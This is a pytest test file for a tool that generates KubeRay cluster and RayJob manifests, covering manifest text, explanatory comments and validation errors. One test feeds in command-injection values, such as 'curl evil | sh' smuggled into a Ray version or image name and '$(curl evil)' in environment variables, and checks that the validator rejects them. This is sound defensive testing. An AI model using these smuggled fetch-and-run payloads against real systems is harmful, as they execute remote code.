"""Tests of the content of written cluster files."""

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.kuberay.designed_clusters import TRIALS, a_design, cpu_type, filled_in, gpu_type, spec
from tune_policies import InvalidResourcesError
from tune_policies.files.yaml_documents import read_documents
from tune_policies.kuberay.design.cluster_spec import DesignedGroup
from tune_policies.kuberay.writing import WriteOptions, write_cluster

FORMATS = ("kuberay", "cluster-yaml")


def test_the_manifest_of_a_small_cluster_has_the_expected_text():
    text = write_cluster(a_design(reasons=("12 trials at once need 3 nodes.",)))

    assert text == EXPECTED


def test_a_group_of_a_manifest_needs_a_dns_label_as_its_name():
    design = a_design(cpu_type(name="ray.worker.default"))

    with pytest.raises(
        InvalidResourcesError, match=r"'ray\.worker\.default' is not valid.*such as 'ray-worker-default'"
    ):
        write_cluster(design)
    assert (
        "ray.worker.default"
        in yaml.safe_load(write_cluster(design, WriteOptions(format="cluster-yaml")))["available_node_types"]
    )


@pytest.mark.parametrize(
    ("version", "expected"), [("2.51.0", None), ("2.52.0", {"mode": "token"}), ("2.61.0", {"mode": "token"})]
)
def test_a_cluster_requires_a_token_if_kuberay_can_create_it(version, expected):
    assert spec(a_design(), ray_version=version).get("authOptions") == expected


def test_the_first_line_states_how_many_trials_run_concurrently():
    text = write_cluster(a_design(num_trials=100))

    assert text.startswith(
        "# Written by tune-policies: a Ray cluster for 100 trials (12 run at once; the other trials wait).\n"
    )


EXPECTED = """\
# Written by tune-policies: a Ray cluster for 12 trials.
# 12 trials at once need 3 nodes.
# A pod requests all CPUs and all memory of its node type. It stays pending indefinitely if the machine has fewer
#   allocatable CPUs or less allocatable memory.
# Pods stay pending until Kubernetes adds nodes. For each group with maxReplicas N, create a node pool (gcloud container
#   node-pools create POOL --enable-autoscaling --total-min-nodes 0 --total-max-nodes N …), or turn on node
#   auto-provisioning.
# Ray's images contain neither tune-policies nor a framework such as torch. Use an image that contains both, or install
#   them with your job's runtime environment.
# An affinity prevents pods without GPUs from occupying nodes with GPUs. Remove it if all your nodes have GPUs.
# The labels of the platform 'gke' select the nodes with GPUs. If you use another platform, set the option platform.
# Optional fields are commented out. Uncomment and complete the fields that you need in each group.
apiVersion: ray.io/v1
kind: RayCluster
metadata:
  # labels: {kueue.x-k8s.io/queue-name: trials}
  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # required by Kueue for clusters with an autoscaler
  name: tune
spec:
  rayVersion: "2.60.0"
  enableInTreeAutoscaling: true
  autoscalerOptions:
    version: v2
    idleTimeoutSeconds: 60
  authOptions:
    mode: token
  headGroupSpec:
    rayStartParams:
      num-cpus: "0"
    template:
      metadata:
        annotations:
          cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
          karpenter.sh/do-not-disrupt: "true"
      spec:
        # serviceAccountName: tune  # an existing account that can read the data and write the results
        # priorityClassName: batch
        restartPolicy: Never
        affinity:
          nodeAffinity:
            requiredDuringSchedulingIgnoredDuringExecution:
              nodeSelectorTerms:
              - matchExpressions:
                - key: cloud.google.com/gke-accelerator
                  operator: DoesNotExist
        # imagePullSecrets: [{name: registry}]
        containers:
        - name: ray-head
          image: rayproject/ray:2.60.0-py311
          env:
          - name: NVIDIA_VISIBLE_DEVICES
            value: void
          # envFrom: [{secretRef: {name: tune-secrets}}]
          resources:
            limits:
              cpu: "2"
              memory: "8Gi"
            requests:
              cpu: "2"
              memory: "8Gi"
              ephemeral-storage: "10Gi"
          volumeMounts:
          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
          - name: shared-memory
            mountPath: /dev/shm
        volumes:
        # - {name: results, persistentVolumeClaim: {claimName: tune-results}}  # ReadWriteMany
        - name: shared-memory
          emptyDir:
            medium: Memory
            sizeLimit: "8Gi"
  workerGroupSpecs:
  - groupName: l4
    replicas: 0
    minReplicas: 0
    maxReplicas: 3
    labels:
      ray.io/accelerator-type: L4
    resources:
      accelerator_type:L4: "1"
    rayStartParams: {}
    template:
      metadata:
        annotations:
          cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
          karpenter.sh/do-not-disrupt: "true"
      spec:
        # serviceAccountName: tune  # an existing account that can read the data and write the results
        # priorityClassName: batch
        restartPolicy: Never
        nodeSelector:
          cloud.google.com/gke-accelerator: nvidia-l4
        tolerations:
        - key: nvidia.com/gpu
          operator: Exists
          effect: NoSchedule
        # imagePullSecrets: [{name: registry}]
        containers:
        - name: ray-worker
          image: rayproject/ray:2.60.0-py311-gpu
          # envFrom: [{secretRef: {name: tune-secrets}}]
          resources:
            limits:
              cpu: "8"
              memory: "32Gi"
              nvidia.com/gpu: "1"
            requests:
              cpu: "8"
              memory: "32Gi"
              nvidia.com/gpu: "1"
              ephemeral-storage: "10Gi"
          volumeMounts:
          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
          - name: shared-memory
            mountPath: /dev/shm
        volumes:
        # - {name: results, persistentVolumeClaim: {claimName: tune-results}}  # ReadWriteMany
        - name: shared-memory
          emptyDir:
            medium: Memory
            sizeLimit: "32Gi"
"""


def test_reasons_with_any_text_are_written_as_comments():
    text = write_cluster(a_design(reasons=("first\nkind: Pod\x07", "- \u2028kind: Pod")))

    assert yaml.safe_load(text)["kind"] == "RayCluster"


def test_a_job_contains_its_cluster():
    job = spec(a_design(), job="python train.py", image="me/tune:1")

    assert (job["entrypoint"], job["shutdownAfterJobFinishes"]) == ("python train.py", True)
    assert job["rayClusterSpec"] == spec(a_design(), image="me/tune:1")
    assert "runtimeEnvYAML" not in job


@pytest.mark.parametrize("job", [None, "python train.py"])
def test_a_comment_of_a_job_recommends_external_storage(job):
    text = write_cluster(a_design(), WriteOptions(job=job, image="me/ray:1"))

    assert ("# Nodes and their files are deleted after the job" in text) == (job is not None)


def test_the_runtime_environment_of_a_job_is_written():
    environment = {"working_dir": "s3://bucket/code.zip", "pip": ["tune-policies", "torch==2.13.0"]}

    job = spec(a_design(), job="python train.py", runtime_env=environment)

    assert yaml.safe_load(job["runtimeEnvYAML"]) == environment


def test_kubernetes_reads_the_texts_of_a_runtime_environment_as_texts():
    environment = {"env_vars": {"RATE": "1e-3", "MODE": "0o644", "ANSWER": "y"}, "pip": ["torch"]}

    job = spec(a_design(), job="python train.py", runtime_env=environment)

    (document,) = read_documents(job["runtimeEnvYAML"], "job.yaml")
    assert document.data == environment
    assert 'ANSWER: "y"' in job["runtimeEnvYAML"]  # for some readers, y is true


def test_the_namespace_is_optional():
    written = [
        yaml.safe_load(write_cluster(a_design(), WriteOptions(namespace=namespace)))["metadata"]
        for namespace in (None, "ml")
    ]

    assert written == [{"name": "tune"}, {"name": "tune", "namespace": "ml"}]


@given(st.text() | st.text(alphabet="a \n\t\r#:-'\"\u2028\x85"))
def test_any_command_of_a_job_is_written_unchanged(command):
    if command:
        assert spec(a_design(), job=command, image="me/ray:1")["entrypoint"] == command


@pytest.mark.parametrize("form", FORMATS)
def test_optional_fields_are_comments_with_valid_yaml(form):
    text = write_cluster(a_design(), WriteOptions(format=form))

    filled = filled_in(text)

    named = {
        "kuberay": ("queue-name", "serviceAccountName", "priorityClassName", "secretRef", "claimName", "registry"),
        "cluster-yaml": ("requirements.txt", "file_mounts"),
    }
    assert all(name not in str(yaml.safe_load(text)) for name in named[form])
    assert all(name in str(yaml.safe_load(filled)) for name in named[form])


def test_the_head_and_every_group_have_optional_fields():
    text = write_cluster(a_design(cpu_type(), gpu_type()))

    assert text.count("# serviceAccountName") == 3


@pytest.mark.parametrize(
    ("platform", "message"),
    [
        ("gke", "--total-max-nodes N"),
        ("eks", "managed node group with minSize 0, maxSize N"),
        ("aks", "--enable-cluster-autoscaler --min-count 0"),
        ("karpenter", "create a NodePool that allows"),
        (None, "an autoscaler that adds them"),
    ],
)
def test_a_comment_explains_how_the_platform_adds_nodes(platform, message):
    text = write_cluster(a_design(), WriteOptions(platform=platform)).replace("\n#  ", "")

    assert message in text


TPU_V2 = cpu_type(custom={"TPU": 4}, accelerator_type="TPU-V2")
TPU_V7 = cpu_type(custom={"TPU": 4}, accelerator_type="TPU-V7X", topology="2x2x1")
NO_KEY = cpu_type(custom={"MBLT": 1})


@pytest.mark.parametrize(
    ("plan", "options", "message"),
    [
        (
            a_design(name="t" * 48),
            {"job": "python x.py", "image": "me/ray:1"},
            "48 characters, but the name of a RayJob can have at most 47",
        ),
        (a_design(gpu_type(name="headgroup")), {}, "'headgroup' is used twice"),
        (a_design(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' is used twice"),
        (a_design(NO_KEY), {}, "Set device_key to the resource that your cluster uses"),
        (
            a_design(gpu_type(device_key="amd.com/gpu")),
            {},
            "has devices of the family NVIDIA GPU, but its device_key 'amd.com/gpu'",
        ),
        (a_design(gpu_type(device_key="google.com/tpu")), {}, "is for the family Google TPU"),
        (a_design(TPU_V2), {}, "only supports TPU-V4, TPU-V5P"),
        (a_design(cpu_type(custom={"TPU": 4})), {}, "TPUs of any type"),
        (
            a_design(cpu_type(custom={"TPU": 2}, accelerator_type="TPU-V6E")),
            {},
            "single-host slice with 2 chips. Set the topology",
        ),
        (a_design(cpu_type(custom={"vgpu": 2})), {}, "would interpret the custom resource 'vgpu'"),
        (
            a_design(TPU_V7),
            {"ray_version": "2.50.0"},
            "the group 'cpu' has TPU-V7X, which the autoscaler of Ray 2.50.0 does not support",
        ),
        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "use Ray 2.51 or newer"),
    ],
)
def test_a_cluster_that_cannot_run_is_refused(plan, options, message):
    with pytest.raises(InvalidResourcesError, match=message):
        write_cluster(plan, WriteOptions(**options))


@pytest.mark.parametrize(
    ("form", "message"),
    [("kuberay", "cannot have 3 nodes: use a multiple of 2"), ("cluster-yaml", "launcher does not support")],
)
def test_slices_of_several_hosts_must_be_whole_and_require_kubernetes(form, message):
    plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), max_nodes=3, num_hosts=2),))

    with pytest.raises(InvalidResourcesError, match=message):
        write_cluster(plan, WriteOptions(format=form))


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"ray_version": "latest"}, "ray_version must be a full version such as 2.60.0"),
        ({"ray_version": "2.60"}, "a full version"),
        ({"ray_version": "2.44.1"}, "2.50.0 or newer, got 2.44.1"),
        ({"ray_version": "2.60.0\n"}, "a full version"),
        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "a full version"),
        ({"ray_version": "\uff12.60.0"}, "a full version"),
        ({"format": "cluster-yaml", "job": "python x.py"}, "job requires format 'kuberay'"),
        ({"format": "cluster-yaml", "namespace": "ml"}, "namespace requires format 'kuberay'"),
        ({"namespace": "Ml\n"}, "namespace 'Ml.n' is not valid: use at most 63"),
        ({"job": "python x.py"}, "set image, or runtime_env"),
        ({"runtime_env": {"pip": ["torch"]}}, "runtime_env requires a job"),
        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which the cluster cannot read"),
        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which the cluster cannot read"),
        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell interprets"),
        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell interprets"),
        (
            {"job": "x", "runtime_env": {"env_vars": {"A": 5}}},
            "A in runtime_env is 5, but Ray requires a string",
        ),
        ({"image": ""}, "image"),
        ({"image": "me/ray:1; curl evil | sh"}, "is not a container image"),
        ({"image": "me/ray:1\n"}, "is not a container image"),
        ({"platform": "iks"}, "platform"),
        ({"num_gpus": True, "format": "cluster-yaml"}, "always contains the GPUs"),
    ],
)
def test_invalid_options_are_refused(fields, message):
    with pytest.raises(InvalidResourcesError, match=message):
        WriteOptions(**fields)


def test_the_launcher_installs_the_given_ray_version_or_uses_the_image():
    def config(**options):
        return yaml.safe_load(write_cluster(a_design(), WriteOptions(format="cluster-yaml", **options)))

    assert config(ray_version="2.55.0")["setup_commands"] == ["pip install 'ray[default,tune,train]==2.55.0'"]
    assert config(image="me/ray:1")["docker"] == {"image": "me/ray:1", "container_name": "ray_container"}


@pytest.mark.parametrize(
    ("node_type", "options", "expected"),
    [
        pytest.param(cpu_type(custom={"HPU": 8}), {}, True, id="Gaudi in Ray's image"),
        pytest.param(cpu_type(custom={"HPU": 8}), {"image": "mine:1"}, False, id="Gaudi in the user's image"),
        pytest.param(gpu_type(), {}, False, id="NVIDIA's GPUs"),
    ],
)
def test_a_comment_lists_devices_without_software_in_rays_images(node_type, options, expected):
    text = write_cluster(a_design(node_type), WriteOptions(**options))

    assert ("# Ray's images have no software for Intel Gaudi. Use an image that contains it." in text) == expected


@pytest.mark.parametrize("image", [None, "me/ray:1"])
def test_a_comment_lists_software_that_rays_image_does_not_contain(image):
    text = write_cluster(a_design(), WriteOptions(image=image))

    assert ("# Ray's images contain neither tune-policies nor a framework" in text) == (image is None)


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        pytest.param(({}, {}), True, id="two types with one GPU"),
        pytest.param(({"pool": "a"}, {"pool": "b"}), False, id="distinguished by the user's labels"),
    ],
)
def test_a_comment_lists_groups_that_select_the_same_nodes(labels, expected):
    large = gpu_type(name="l4-4", gpus=4, node_selector=labels[1])

    text = write_cluster(a_design(gpu_type(node_selector=labels[0]), large))

    assert ("# Groups l4, l4-4 select the same nodes" in text) == expected


@pytest.mark.parametrize(
    ("fields", "platform", "expected"),
    [
        pytest.param({"accelerator_type": "L4"}, "gke", False, id="a type that GKE labels"),
        pytest.param({"accelerator_type": "L40S"}, "gke", True, id="a type that is not on GKE"),
        pytest.param({"accelerator_type": "L4"}, None, True, id="nodes without labels"),
        pytest.param({"accelerator_type": "L4", "node_selector": {"pool": "l4"}}, None, False, id="the user's labels"),
        pytest.param({"accelerator_type": None}, "gke", False, id="GPUs of any type"),
    ],
)
def test_a_comment_lists_device_types_without_a_label(fields, platform, expected):
    text = write_cluster(a_design(gpu_type(**fields)), WriteOptions(platform=platform))

    assert ("# No label selects the nodes with L4" in text) == expected
